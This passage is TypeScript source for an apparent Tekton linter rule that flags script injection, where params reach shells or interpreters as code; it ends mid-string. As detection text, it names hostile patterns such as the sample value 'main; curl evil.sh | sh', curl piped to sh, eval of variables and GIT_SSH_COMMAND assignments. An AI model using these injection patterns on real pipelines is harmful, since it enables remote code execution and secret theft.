import { argumentsOf, argvDataReading, basename, codeArgvData, CodeArgvData, commandsRunBy, isBusybox, isToybox, ENTRYPOINT, Invocation, invocations, jqCodeFiles, jqDataIndexes, privilegeReadings, PYTHON, RUBY, SHELL_NAMES, shellDataIndex, TCL } from '../../private/argv';
import { asArray, ContainerView, containersOf, fixedEnvValues, objectName, pipelineSpecsOf } from '../../private/containers';
import { executingEnv } from '../../private/executing-env';
import { pipelineFixedReferences, runFixedReferences } from '../../private/param-enums';
import { declaredParamType, paramValueType } from '../../private/param-types';
import { containerPathWithin, joinPath } from '../../private/paths';
import { interpreterOf, readsAsShell } from '../../private/repo-code';
import { codeArguments, positionalCommand, programDataOperands, scriptFileArguments, shellCommandString, variablesRunAsCode } from '../../private/shell';
import { envSetsPosixMode } from '../../private/shell-options';
import { singleElements } from '../../private/single-elements';
import { callerAfter, callerEnv, envNameFor, envWithCallerValues, FixedReferences, kubeletReferences, kubeletUnescaped, LabelCopy, labelEnv, LabelReference, labelReferences, untrustedSubstitutions } from '../../private/substitutions';
import { FIXED_PLACEHOLDERS_TEXT } from '../../private/templates';
import { jsString } from '../../private/text';
import { fileRunByCommand, filesRun, scriptsWritten, WrittenScript } from '../../private/written-scripts';
import { IRule, Severity } from '../rule';
import { containerRule, Problem, runsStepAction } from '../rule-builders';
import { RuleId } from '../rule-id';

/**
 * Substitutions that callers can choose reach code only as data.
 *
 * Tekton pastes every `$(…)` into the text before the program sees it. In a
 * script (whatever its `#!` line), and in any argument of an interpreter or
 * command runner (`sh -c`, `bash -ec`, `python3 -c`, `node -e`, `env -i sh -c`,
 * `/bin/busybox sh`, `ssh`, `xargs`, `kubectl` …), the value becomes code. Only
 * env values (and the paths Tekton fixes from the task itself, such as
 * `$(workspaces.src.path)`) are allowed there.
 */
const CONTAINERS = containerRule(
  {
    id: RuleId.SCRIPT_INJECTION,
    severity: Severity.HIGH,
    title: 'Params and results reach scripts and interpreters only through env',
    rationale:
      'Tekton pastes a substitution into the script or argument text before the program parses it, so a param value such as '
      + '"main; curl evil.sh | sh" runs as code. Through env it stays data, as long as the script does not run the variable as code.',
    fix: 'Pass the value through env, quote the variable in the script, and never run it as code (eval, sh -c "$VAR", the program\'s name).',
    decidesFrom:
      'Every step, sidecar and stepTemplate of Tasks, TaskRuns, Pipelines and PipelineRuns (`tekton.dev` v1 or v1beta1, or '
      + 'no apiVersion; embedded `taskSpec`s and `pipelineSpec`s followed to any depth), and of every StepAction: the '
      + "`script` as written, and, when the `command` (the stepTemplate's if the step has none) runs an interpreter or "
      + 'command runner, every later argument of `command` and `args`, except those after `sh -c CODE` (a shell, then '
      + 'option groups of `-` or `+` and letters without `o` or `O`, one holding `c`, then the code: `sh -ex -c CODE`, `sh -c -e CODE`): '
      + 'they become `$0` and the positional parameters, data the shell never '
      + 'parses (unless the code runs one as code, below), the input files of sed and awk (their operands after the program: all of them where '
      + '`-e`, `--expression`, `-f`, `--file`, awk\'s `--source`, `-E`, `--exec` give it before the first operand, else those after the first: awk '
      + 'reads no option after its first operand (gawk 5.2, mawk 1.3.4, busybox 1.35 run `awk \'/src/…\' -f prog.awk in.txt`\'s first operand as '
      + 'the program), nor does GNU sed where `POSIXLY_CORRECT`, which the image or `envFrom` may set unseen, is in its environment; sed\'s '
      + 'other options read as GNU getopt reads them, anywhere before `--`; none after a word a substitution starts, which may be an option such as `--expression=…` or `-f`, '
      + 'nor after an option their grammar does not know: `sed -i -e SCRIPT /src/$(params.file)` edits a file), kubectl\'s operands and the values of its '
      + '`-f`, `-n`, `-l`, `-o`, `-c`, `--for`, `--timeout` and `--field-manager` for a command that runs nothing they name (`apply`, `create`, `delete`, `get`, '
      + '`describe`, `label`, `annotate`, `replace`, `rollout`, `scale`, `wait`, `logs`, `explain`, `api-resources`, `api-versions`, `version`, '
      + '`cluster-info`; without `--`; none after a word a substitution starts, which may be `--kubeconfig=…`, nor after an option that may take '
      + 'a value not known as data: `kubectl delete pod build-$(params.id)`; not a `-f` value with a substitution, a list kubectl splits at '
      + 'commas, where the value may add a URL whose objects kubectl fetches and applies or deletes: `-f /src/$(params.file)` with '
      + '`a.yaml,https://host/x.yaml`, pflag StringSlice, cli-runtime builder.go `FilenameParam`), the operands of docker, podman and nerdctl '
      + 'for a command that runs no container and no build (`pull`, `push`, `tag`, `images`, `inspect`, `rmi`, `login`, `logout`, `version`, '
      + '`info`, after only options written with their value; without `--`; none a substitution starts, nor after one: `podman pull '
      + 'docker://registry/app:$(params.tag)`), the arguments that python, pypy, node, bun, perl, ruby, php, lua '
      + 'and Rscript, given no code option (`-c`, `-e` …), pass to the program file they run, their first operand past their options (after bun\'s `run` '
      + 'sub-command too: `bun run build.ts ARG`, while `bun run $(params.x)` runs the file or package script the value names), the values of those '
      + 'that take one and `--` (`command: [python, cli.py]`, `args: [--params=$(params.p)]`: `sys.argv`; the interpreter reads no option after the file; '
      + 'not the file itself, which names the code, and none where a substitution starts a word up to the file, which may be `-c` or move it), '
      + 'the arguments after the code of `python -c CODE` (every one: CPython 3.11 reads no option after it), and of `node -e`, `perl -e` and `ruby -e` from '
      + 'their first operand after the code, or after `--` (node 20, perl 5.36 and ruby 3.1 read options up to there: a substitution there may be `--eval=…`, told so), '
      + 'which they give the code as data (`sys.argv`, `process.argv`, `@ARGV`, `ARGV`), where no substitution is in the code or before it and the code, '
      + 'read as written, names no evaluator it may give them to (`eval`, `exec`, `system`, `subprocess`, `require`, perl\'s `open` and `<>` …: then told as '
      + 'the code\'s data, with the evaluator) and no switch reads them as more than data (perl\'s `-n`, `-p`, `-a`, `-F`, whose loop opens each as `<>` does, '
      + 'where `cmd|` runs cmd; perl\'s and ruby\'s `-s`), and the name and value of jq\'s (and gojq\'s) `--arg`, `--argjson`, '
      + '`--slurpfile` and `--rawfile`, which it binds to `$name` as data, and its operands after the first (the program, or with '
      + '`-f` its file), which jq 1.7 reads as input files of JSON, or after `--args` and `--jsonargs` as the values of '
      + '`$ARGS.positional` (main.c; but for the last, a substitution starts it and no `--` is before it, where the program may import a module (`import`, `include`, or a program file, `-f`): jq 1.7 reads a value `-L/dir` there as the directory of its modules, so the value chooses the code they load; not with `--run-tests`, which runs the programs of the files after it; nor, for jq, one before `--` that a substitution starts and another argument follows, `jq -r .a $(params.x) f.json`: jq 1.7 reads a value `--run-tests` there as that option, wherever it stands, and runs the programs of the last file after it as tests, printing what they give, `$ENV` included, main.c and jq_test.c) (its options read as jq reads them, before or after the '
      + 'program, past `--indent N` and `-L DIR`, long ones only by their full names, every option of jq 1.7 known (`-b`, `--seq`, '
      + '`--run-tests` … take none), an argument of `-` and no letter or `-` after it an operand (`-1`); the value of `-L DIR` (`-LDIR`, `--library-path`) data where the program imports no module, '
      + 'and a finding named as such where it may (the directory the modules come from), as is the file of jq\'s program (the first operand with `-f`, `--from-file`; gojq\'s value of `-f`), which names the code that runs; an option jq 1.7 does not '
      + 'know (a later version\'s) read as taking none, one and two arguments, an argument data only where every reading makes it so; '
      + 'an element Tekton expands from an array, `$(params.list[*])`, read as no argument, one and two, so that `--arg n $(params.list[*]) .` '
      + 'is code: the array\'s second element, or with none the argument after it, is the program); and the string of `env -S`/`--split-string` (`-S STRING`, a short option group ending in `S`, `-iSSTRING`, '
      + '`--split-string=STRING`), which env splits into a command line (quotes, escapes, `${VAR}` and options included), '
      + 'and where that string holds `${X}` of an env var that holds such a substitution (GNU env puts its value in the word, outside single quotes): as the '
      + 'program, before it, or as a shell\'s code (any argument of another interpreter), '
      + 'whatever program it names. The program is found through wrappers (`env`, '
      + '`timeout`, `nice`, `tini` ...), each past its options as its own option grammar reads them (long-option prefixes included; '
      + 'an option a wrapper does not know read as taking the next argument and as not, each program that makes possible judged) '
      + 'and recognised by its base name (shells, busybox and toybox, or a name that starts with either, python, node, perl, ruby, php, awk, '
      + 'sed, jq, yq, ssh, xargs, find, su, sudo, make, kubectl, helm, docker ...). A Tekton substitution whose value can '
      + "come from outside the task (params, results of tasks and steps, a workspace's claim) is a "
      + 'finding there; the paths Tekton fixes from the task itself (`$(workspaces.<w>.path)`, `$(results.<r>.path)`, '
      + '`$(step.results.<r>.path)`, `$(steps.<s>.exitCode.path)`, `$(credentials.path)`) are inert, except a workspace\'s '
      + 'path whose declared `mountPath` holds such a substitution or such a path: Tekton substitutes params into the mount '
      + 'path first and checks nothing about it. So are the values '
      + 'only a shell-inert alphabet can spell: `$(workspaces.<w>.bound)` ("true" or "false") and the names, namespaces and '
      + 'uids of the TaskRun and PipelineRun and the names of the Task and Pipeline (`$(context.taskRun.name)`, '
      + '`$(context.pipelineRun.uid)` ...: DNS-1123 names the API server checks, or uids it generates), and the statuses '
      + 'Tekton gives finally tasks (`$(tasks.status)`, `$(tasks.<t>.status)`: Succeeded, Failed, Completed or None), and the '
      + 'counts Tekton writes as decimal numbers (`$(context.task.retry-count)`, `$(context.pipelineTask.retries)`, '
      + '`$(tasks.<t>.matrix.length)`, `$(tasks.<t>.matrix.<r>.length)`). A '
      + 'param substitution whose value the run in the same manifest fixes to a constant is no finding either: Tekton pastes '
      + "what the manifest's author wrote, replacing the exact text level by level. In a TaskRun's own `taskSpec`: the "
      + "TaskRun's value, else the task's default (an object's keys the TaskRun leaves keep the default's). In a task spec of a "
      + "PipelineRun's own `pipelineSpec` (or of a pipeline task's `pipelineSpec`, whose run is given that task's params): the "
      + "run's value, else the pipeline's default (an object the run gives replaces the default whole), replaced by what the "
      + "pipeline task passes (a string; an array as a whole, while `$(params.<a>[<i>])` stays the run's element; an object's "
      + "keys, the run's other keys staying), else the task's default; a param a `matrix` names is the matrix's, a caller's. In "
      + "a Pipeline's task spec, only a string constant the pipeline task passes (any run may give any param of any type, an "
      + 'array named `<o>.<key>` included). This holds for a whole string param (as IMAGE_DIGEST reads it), a key of an object '
      + 'param (`$(params.<o>.<key>)`; the pipeline\'s default of an object is also replaced as `$(params["<o>"].<key>)` and '
      + "`$(params['<o>'].<key>)`), an element of an array param (`$(params.<a>[0])`) and the whole array (`$(params.<a>[*])`, "
      + 'every element a constant): an object or array the run fixes in part passes for its constant keys and elements only. '
      + "A constant may hold the run's own identity, `$(context.<x>.name)`, `.namespace` or `.uid` (a pipeline task's "
      + '`uid: $(context.pipelineRun.uid)`), inert as above. A constant is the author\'s only as Tekton pastes it: not where, '
      + 'pasted into the text around it, it forms another substitution that a later level fills with a value from outside the task '
      + '(`$(tasks.$(params.t).results.r)` with `t` fixed to `build` is the result of task `build`; in `command`, `args` and env, '
      + "`$(NAME)` of an env var that holds one), nor, where a caller may name a param (a Pipeline's runs, whose param names Tekton "
      + 'never checks; a run whose param name a template writes or holds `)`), where a `)` follows it or a `$(params` precedes it in '
      + 'its text: Tekton replaces the text `$(params.<name>)` of any param a run gives, so a run\'s param named `path) && (cd dir` '
      + 'replaces all of `$(params.path) && (cd dir)` (so in a finally task\'s `echo "$(params.status) $(params.build-status)"`, each '
      + 'given a status: a run\'s param `status) $(params.build-status` spans both). Tekton v1.15 allows this: its webhook checks a '
      + 'TaskRun\'s and a PipelineRun\'s param names for duplicates alone (`ValidateParameters`, taskrun_validation.go; the name format '
      + 'of task_validation.go is checked for declared params only), its reconcilers keep params no spec declares and make a key of each '
      + '(`replacementsFromParams` in taskrun/resources/apply.go, `paramsFromPipelineRun` and `propagateParams`, into an embedded '
      + 'task spec, in pipelinerun/resources/apply.go), and `substitution.ApplyReplacements` pastes them all in one `strings.Replacer` '
      + 'built from a map, where of two keys at the same place the one listed first wins, in no fixed order; nor where it is a whole element of `command` or `args` that Tekton may '
      + 'expand from an array of that name to no element or several, before a later element that holds a value from outside the '
      + "task, which it moves (a Pipeline's run gives an array, for a param the pipeline declares no string or object (Tekton refuses "
      + "a run's array for one it does: `ValidateParamTypesMatching`), that the pipeline task's string empties: "
      + '`sh -c $(params.code) $(params.name)` then runs `name` as the code). '
      + 'A value that holds any other substitution (a TriggerTemplate\'s `$(tt.params.<p>)`) '
      + `or a \`{{…}}\` template (Helm; Pipelines-as-Code's, but for ${FIXED_PLACEHOLDERS_TEXT}) is chosen when the run is created.`
      + ' Text Tekton does not replace '
      + '(`$(workspaces.<w>)`, a workspace field other than path, bound, claim and volume) reaches the script as written, the '
      + "shell's own command substitution. In `command` and "
      + '`args` (never in a script, which Tekton writes to a file), `$(NAME)` of an env var that holds such a value is one '
      + 'too: the kubelet expands it. So is one the kubelet fills from a run\'s annotation (`valueFrom.fieldRef` '
      + '`metadata.annotations[...]`: Tekton copies the run\'s annotations onto the pod) or from a ConfigMap or Secret whose '
      + 'name holds such a substitution. One the kubelet fills from a run\'s label (`metadata.labels[...]`, one word, below) is '
      + 'a finding there only in the code of `sh -c`, where the code, pasted, runs that word as the env vars below are read (the '
      + 'program a command runs, `eval`\'s words …; not bash\'s readings of shell syntax), once per variable: `sh -c \'$(TOOL) '
      + '--version\'`; in an argument a shell\'s code or a shell script gets as a positional parameter (`sh -c \'eval "$1"\' _ '
      + '$(TOOL)`, `args` of a script), read the same way; and wherever it is written in the code of another interpreter\'s code '
      + 'option (`python3 -c`, `node -e`, `perl -e` …, `iex -e`, `guile -c` and `-e`, `racket -e` (in a group of letters too, `-fe FILE CODE`), `sbcl --eval`, '
      + '`clisp -x`, `osascript -e`, mix\'s `run -e`/`--eval` and `eval CODE`, alone or after `elixir -S mix`, past the value of an option that takes one, `python3 -W ignore -c`, up to one that ends its options '
      + '(python\'s `-c CODE`, a lone `-` of python, node, perl, ruby and lua, guile\'s `-c` and `-s`, racket\'s `-r`, `-u`, `--script`, `--require-script`, sbcl\'s `--script FILE` and `--end-toplevel-options`, R\'s `--args`: `python3 -c CODE -c $(TOOL)` gives the code `-c` and the value as data; but every argument after pwsh\'s `-c`/`-Command`, which joins them into its command, '
      + 'and the first string of its `-CommandWithArgs`/`-cwa`, the value of its `-EncodedCommand`, each parameter read as PowerShell reads it, any prefix of its name, '
      + '`--` or `/` or another dash, the word trimmed (`pwsh -comm`, `pwsh /c`, `pwsh /NoProfile -ec`, `pwsh " -c"`; `pwsh-preview` as pwsh), and every argument from Windows PowerShell\'s first operand or the first parameter its host does not know (`powershell -Foo -File b.ps1 "$X"`), which it runs as after `-Command` '
      + '(`powershell Write-Output $(TOOL)`; pwsh\'s first operand is its file, and every word after a file the script\'s); PowerShell and cmd by their names as Windows finds them '
      + '(`powershell.exe`, `PowerShell.EXE`, `C:\\…\\pwsh.exe`, `cmd.exe`); whose language is not '
      + 'read: a string literal too), and in any argument of erl, jshell and cmd (all code: `erl -noshell -eval \'os:cmd("$(TOOL)")\'`, `cmd.exe /c echo $(TOOL)`), once per variable; as the '
      + 'program a command runner runs (xargs, find\'s `-exec`, sudo, doas, su, flock, watch … as their grammars read them: '
      + '`xargs $(TOOL)`, `sudo -u b $(TOOL)`), in the code of a shell one runs (`watch $(TOOL)`, `su -c \'$(TOOL) x\'`, '
      + '`xargs sh -c \'$(TOOL)\'`, busybox\'s or toybox\'s applet: `busybox sh -c \'$(TOOL)\'`), read as the code of `sh -c`, and in the code '
      + 'option of another interpreter one runs (`sudo -u b python3 -c \'import $(TOOL)\'`); and '
      + 'in the string of `env -S`, split into words at blanks outside quotes (a label\'s value has neither), where a word picks what '
      + 'runs: the program\'s word (`env -S \'$(TOOL) --version\'`), a word before it (env\'s options and their values, a wrapper\'s '
      + 'arguments, an assignment to an env var programs run as code, as ARGUMENT_INJECTION knows them: `GIT_SSH_COMMAND=$(TOOL)`), '
      + 'and any word after an interpreter named there (`env -S \'sh -c "$(TOOL) x"\'`; but after a shell\'s code, its `$0` and positional parameters, in the string or after it, which env appends as they are, coreutils env.c, only where the code runs them as code, read as for `sh -c CODE NAME ARG…`: `env -S "sh -c \'eval \\"\\$1\\"\' _ $(TOOL)"`), '
      + 'once per variable; the arguments of another program there are data, as in argv (nor are their options read). The CEL `when` expressions (`when[].cel`) of steps and of the tasks and finally '
      + 'tasks of Pipelines (PipelineRuns\' embedded pipelineSpecs too) are read the same way (a step that runs a StepAction '
      + 'keeps its own, whether the StepAction is at hand or not): Tekton substitutes params and '
      + 'results into the CEL text before it evaluates it (with `enable-cel-in-whenexpression`); a step\'s with the params the '
      + 'run fixes for the step, a pipeline task\'s with those the run of a PipelineRun\'s own `pipelineSpec` (or of a pipeline '
      + 'task\'s `pipelineSpec`) fixes at the pipeline level, its value else the pipeline\'s default (a pipeline task\'s own '
      + 'params do not reach its `when`). A shell script (its `#!` line names a POSIX shell, or there is none: Tekton runs `sh`), '
      + 'and the code of `sh -c CODE` in `command` and `args` (`busybox sh -c CODE` and toybox\'s too), are also read for what it does with the env vars (the container\'s, and '
      + 'after them those an `env NAME=VALUE` before the shell sets: `env X=$(params.x) sh -c \'eval "$X"\'`) whose `value` holds such a substitution, or that the kubelet fills from a '
      + 'source callers choose (a run\'s annotation, a ConfigMap or Secret a substitution names; a run\'s label, `metadata.labels[...]`, '
      + 'which Tekton copies onto the pod too, but one word of letters, digits, `-`, `_` and `.` the API server checks; or whose '
      + '`value` holds the `$(NAME)` of one so filled defined before it, which the kubelet expands there, copies of copies too: '
      + '`B: $(TOOL)`, then `"$B"`, `$(B)` in `sh -c` code, `python3 -c` code or a positional parameter; as a '
      + 'command it names the program, `env` printing the env\'s Secrets, while the readings of bash below that run only '
      + 'shell syntax in the value do not count it), each read as above (the '
      + 'stepTemplate\'s env merged as Tekton merges it, a later entry of a name replacing an earlier one): a command that runs '
      + 'one as code is a finding, once per variable, at the first such command. It runs as code a word `eval` joins, the code of '
      + '`sh -c` (any POSIX shell, its option group holding `c`, of `-` or of `+`, the finding naming `+c` as written: `sh +c "$X"`; the outer shell expands `"echo $X"` into the code), '
      + 'the code a package runner runs with a shell (npx\'s and `npm exec`\'s `-c`; `pnpm dlx`\'s, `pnpm exec`\'s and pnpx\'s command and arguments in shell mode, `-c` or '
      + '`--shell-mode`, joined with spaces and run by /bin/sh, so a variable in any of those words, the finding naming the runner: `pnpm dlx -c cowsay "$X"`; the first operand of `yarn exec`, '
      + 'which yarn 2 and later run with their own shell, @yarnpkg/shell, and yarn 1 as the program, the words after it its arguments: `yarn exec "$X"`, not `yarn exec echo "$X"`, '
      + 'after yarn\'s `--cwd DIR` or `workspace NAME` too, or `workspaces foreach` and its options, `yarn workspaces foreach -A exec "$X"`, which runs it in each workspace; `yarn node ARGS`, which runs node with them (yarn 1 to 4; through `workspace NAME` and `workspaces foreach` too: `yarn node -e "$X"` is node\'s code); npx\'s and `npm exec`\'s `-c` named as written, with npm\'s script shell), '
      + 'the package a package runner installs and runs a program of, an option\'s value before its command (`npx -p "$X" tool`, `bunx --package`, `uvx --from`, '
      + '`pipx run --spec`, `pnpm dlx --package`, `yarn dlx -p`, as ARGUMENT_INJECTION reads them in `args`), '
      + 'the code of '
      + 'another interpreter\'s code option (`python -c`, `node -e`/`--eval`/`-p`, `perl -e` and `-E` in a group, `ruby -e`, '
      + '`php -r`, `lua -e`, `Rscript -e`, `zsh`/`fish`/`csh -c`, `pwsh -Command`, `guile -c`, `racket -e`, `sbcl --eval`, `clisp -x`, `iex -e`, `osascript -e`) or its input when it is given no program '
      + '(and the first operand of a shell or such an interpreter given no code option, where a word before it expands a variable whose value is '
      + 'not known here, read below: `read O < f` then `sh -$O "$X"`, `O=$(cat f)` then `python3 $O "$X"`, whose value may be `c` or `-c`; '
      + 'dash 0.5.12 given O=c runs the value; not where a program file comes first, `python3 $O build.py "$X"`; and a shell\'s option word that its shell '
      + 'expands to a group holding `c`, read as for an interactive shell below: `O=c` then `sh -$O "$X"`, `sh -${V:1} "$X"` with the step\'s V=xc but where dash runs it (to another group the options go on, so the first operand past them is the file it runs: `O=e` then `sh -$O "$X"`, `sh -e$U "$X"` of an unset U); and a later argument of a command whose program word is one variable the script gives what `read` or a command\'s '
      + 'output gives, which may be `eval`: `read T < f` then `$T "$X"`, but not the path `command -v` or `which` prints for a program named literally, `T=$(command -v docker)`) '
      + '(`python3 <<EOF`, `echo "$X" | node`), the program of awk (first operand, `-e`, `--source`: `system()` and pipes run '
      + 'commands) and the script of sed (first operand, `-e`, `--expression`: GNU sed\'s `e` command and `s///e` flag run '
      + 'commands; not with `--sandbox`), the arguments of yq given `--security-enable-system-operator` (its `system` operator '
      + 'runs commands), the remote command of ssh (the words after its destination, joined and parsed by the remote host\'s '
      + 'shell: `ssh host "$X"`, `ssh host echo "$X"`), the code of `trap`, a command word that expands it (the value '
      + 'chooses the program and its words), the first operand of `source` or `.` (the '
      + 'file it runs: the value chooses which, `source "$X"`; or a process substitution whose output is the code, `source <(echo "$X")`; '
      + 'the later operands are the file\'s positional parameters, data), the file a shell given no code or an interpreter given no code option runs, '
      + 'its first operand past its options (`bash "$X"`, `python3 -u "$X"`, `node "$X"`, `bun run "$X"`: the value chooses which file runs, as a value pasted there in `args` does), '
      + 'or a word before it (`node -r "$X" app.js`: a value there may be an option that gives it other code, `-c`, `-e`, a module to load; its arguments after the file stay data), a '
      + 'shell\'s input (or `source /dev/stdin`\'s, or an interpreter\'s given no program): a here-string, a heredoc whose delimiter is not quoted, a process substitution (`bash < <(echo "$X")`: what it prints), or what `echo`, '
      + '`printf` or `cat <<< "$X"` pipes to it (through any `tee`, or `cat` given no file, whose output is not redirected: `echo "$X" | tee log | sh`), its own or, given none, the one the closing word of a group, loop, `if`, `case` or subshell around it '
      + '(a subshell\'s: the redirections written right after its `)`, not after a line break or `;`, where they are a command of their own) '
      + 'redirects, or that of the one around that, outwards, where none nor a pipe gives it one (`{ bash; } <<< "$X"`, `while …; do sh -s; done <<EOF`, `( ( bash ) ) <<< "$X"`, `{ cat | bash; } <<< "$X"`; reported where that redirection is written, `} <<< "$X"`, naming the command that reads it), '
      + 'or that a call of a shell function of the script whose body runs it is given (`f() { bash; }; f <<< "$X"`, `echo "$X" | f`; or the group or subshell around the call, `( f ) < <(echo "$X")`, reported where that is written), '
      + 'on its input or on the descriptor whose file a command of the body runs once that command\'s own redirections apply (bash 5.2 applies the call\'s redirections around the body, execute_cmd.c execute_function: `f() { bash /dev/fd/3; }; f 3<<< "$X"`, `f() { 3<&4 source /dev/fd/3; }; f 4<<< "$X"`, `f() { bash <&3; }; f 3< <(echo "$X")`, `{ f; } 3<<< "$X"`; '
      + 'and a redirection written on the definition, `f() { bash /dev/fd/3; } 3<<< "$X"`, as that of a group; the code of a shell the body runs reads the same, `f() { sh -c \'bash\'; }; f <<< "$X"`); '
      + 'or a descriptor above 2 that a shell running the code of `-c` is given, that an exec opened before it, or that the closing word around it redirects, where a command of that code runs its file (`bash -c \'source /dev/fd/3\' 3<<< "$X"`, `exec 3<<< "$X"; bash -c \'source /dev/fd/3\'`); '
      + 'or that a command writes to the process substitution it runs in (`echo "$X" | tee >(sh)`, `echo "$X" > >(bash)`); '
      + 'or that a shell running the code of `-c` is given, where the code runs it given none of its own (`sh -c \'bash\' <<< "$X"`, `echo "$X" | sh -c \'cat | bash\'`); '
      + 'a shell given `+s FILE` read both as bash reads it (its input) and as dash does (the file: `sh +s /dev/fd/3 3<<< "$X"`); '
      + 'or that the closing word of the group, subshell or loop around a shell or `source` gives it on the descriptor above 2 whose file it runs, given none of its own (`{ source /dev/fd/3; } 3<<< "$X"`, reported at `} 3<<< "$X"`); '
      + 'the same where the file a shell or `source` runs is a descriptor a redirection of the same command feeds (`source /dev/fd/3 3<<< "$X"`, '
      + 'the descriptor read once the redirections apply left to right, as bash does, a duplication `n<&m` or `n>&m` (`m-` moving it) making n what m is at that point: `bash -s 3<<< "$X" <&3` reads the here-string, `bash 0<&3 3<<< "$X"` does not; a descriptor an exec or a command duplicates from one an exec opened or the closing word around it redirects counts as that one, `exec 3<<< "$X"; exec 0<&3; bash`, `{ sh -s <&3; } 3<<< "$X"`; '
      + '`bash /dev/fd/3 3< <(echo "$X")`, `/proc/self/fd/N`; not from 3 through sudo or doas, which close those, but for one below N through sudo given `-C N` or `--close-from=N`, which sudoers lets through where its `closefrom_override` permits: `sudo -C 4 bash /dev/fd/3 3<<< "$X"`), or that an `exec` running no program opened before it in the same text, '
      + 'wherever it stands (`exec 3<<< "$X"` then `source /dev/fd/3`, `exec {fd}<<< "$X"` then `source /dev/fd/$fd`, the descriptor bash allocates for the variable, redir.c, `exec < <(echo "$X")` then `bash`, `exec > log <<< "$X"` then `bash`: exec without a program redirects the shell\'s own descriptors, bash 5.2 execute_cmd.c), unless it provably never opens it for that command: in a subshell that command is not in (`( exec 3<<< "$X" )`) or piped to another command (bash runs it in a subshell), in an `if`\'s branch whose condition is `false` alone or `! true` (`if false; then exec 3<<< "$X"; fi`), or after a condition `true` or `:` alone, or after `false &&` or `true ||`, in the body of a `while` whose condition is `false` alone or `! true` (`until true`, `until :`), after an `exit` of the text\'s own shell that always runs before it (not after `&&`, `||` or a pipe, nor in a group, subshell, coprocess or function; its words literal; no redirection but to /dev/null, since bash goes on after an `exit` whose redirection fails), where the script defines no function `true`, `false`, `:` or `exit` and no alias, and runs no eval, no `enable`, and no `source` or `.` but the command that reads the descriptor (a file, or a descriptor or /dev/stdin it reads from a file, `source /dev/stdin < lib.sh`, may define them) (a branch that may never run still may); or in the body of a function, other than `command_not_found_handle` (which bash calls for a command it does not find), whose name the text writes nowhere but where it defines it (nor as a command word once quotes are removed, `$\'\\x67\'`), in a text that runs no command whose program a value chooses (`$cmd`), no eval, alias, `compgen`, `declare`, `typeset`, `complete`, `bind`, `enable`, `PROMPT_COMMAND`, `trap` or `mapfile -C`/`readarray -C` with code a value gives (`trap "$cb" EXIT`), no `source` or `.` but the reader, and no `set -a` or `set -o allexport` (which exports the function to the programs it runs); or what curl or wget downloads with it (from the URL it names) and pipes to it, through tee or cat too (`curl -sL "$X" | '
      + 'sh`, `wget -qO- "$X" | bash`, `curl -sL "$X" | tee i.sh | sh`), or from the URLs of the configuration curl reads from its input or a file (`echo "url=$X" | curl -sK - | sh`, `curl -K <(echo "url=$X") | sh`, a file the script writes it to, `echo "url = $X" > rc` then `curl -K rc | sh`: the configuration\'s `url` and `next` send a download to standard output whatever `-o` the command gives, curl 7.88) or of the list wget reads from its input under `-O -` (`echo "$X" | wget -qO- -i - | sh`), and a file a command writes it to (`echo "$X" > f`, `printf`, `cat > f <<EOF`, `| tee f`: '
      + 'its words or input hold it; `cp /dev/stdin f`, `install /dev/stdin f` (two operands), `dd of=f` with no `if=`: its input; `curl -o f "$X"`, `wget -O f "$X"`: what it downloads, the value in a URL or in any option\'s value, glued or grouped too (`-x"$X"`, `--input-file=…`), but a header named literally other than `Host`, a user, a password or token, an agent, a referer, cookies, timing and logs; each group of curl\'s `-:`/`--next` with its own output; or the config or list of URLs it reads from its input, `curl -K -`, `wget -i -`, where the input holds the value) that a shell, `source`, an interpreter, `awk -f`, `sed -f` or the command word (`./f`) then '
      + 'runs; and, as bash reads them, what runs the command substitutions of an array subscript in the value (`a[$(cmd)]`): '
      + 'arithmetic (`$((X))`, `$[X]`, `((X))` (where its first parenthesis closes right before another, as bash 5.2 parse.y reads it: `((eval "$X") )` is a subshell in a subshell, whose eval runs), `for ((…))`, `let`, the `-eq`, `-lt` … of `[[ ]]`, a subscript or offset of '
      + '`${…}`, what is assigned to an integer variable: `declare -i N="$X"`, `local -i`, `typeset -i`, and after such a declaration '
      + '`N=`, `read N`, `printf -v N`, `for N in`, but not the assignments before a program), a variable\'s name (a declaration\'s but `export`\'s and `readonly`\'s, which refuse a subscript before they assign, but whose name, not `-f`\'s, chooses the variable they set and its value after an `=`: `export "$K=$V"`, `export "$X"` with X `BASH_ENV=$(cmd)`, which the next bash expands, `readonly "$X"` with X `PS4=…` before `set -x`; `declare -n`\'s target, `printf -v`\'s, `read`\'s, `unset`\'s, the '
      + 'indirection `${!X}`, the name `test -v`, `[ -v` and `[[ -v` test, bash 5.2 test.c) and the prompt expansion `${X@P}`; `compgen -C`\'s command, which bash runs (pcomplete.c gen_command_matches), the word list of `compgen -W` and `complete -W`, which bash expands as a word, running its command substitutions, and `mapfile -C`\'s callback, which it evaluates as it reads lines (mapfile.def); the script a shell runs, or the program file of an interpreter given no code option, that is a process substitution (`bash <(echo "$X")`, `python3 <(echo "$X")`, `bash --rcfile <(echo "$X") -i`: what it prints); the code of a shell that kubectl, oc, docker, podman, nerdctl or crictl runs in a container (a shell\'s name then an option group holding `c`, anywhere in its arguments: `kubectl exec pod -- sh -c "$X"`, `docker run img bash -lc "$X"`); an alias\'s value '
      + '(`alias b="$X"`: dash and POSIX sh expand aliases in a script, bash with `expand_aliases`); and an assignment to an env var whose value a program runs as code '
      + '(`GIT_SSH_COMMAND="$X" git fetch`, `env GIT_SSH_COMMAND="$X" git fetch`, `export GIT_SSH_COMMAND="$X"`, `declare -x EDITOR="$X"`, alone: `PS4="$X"` then `set -x`; `BASH_ENV`, which bash expands, a command substitution in it running, and sources: '
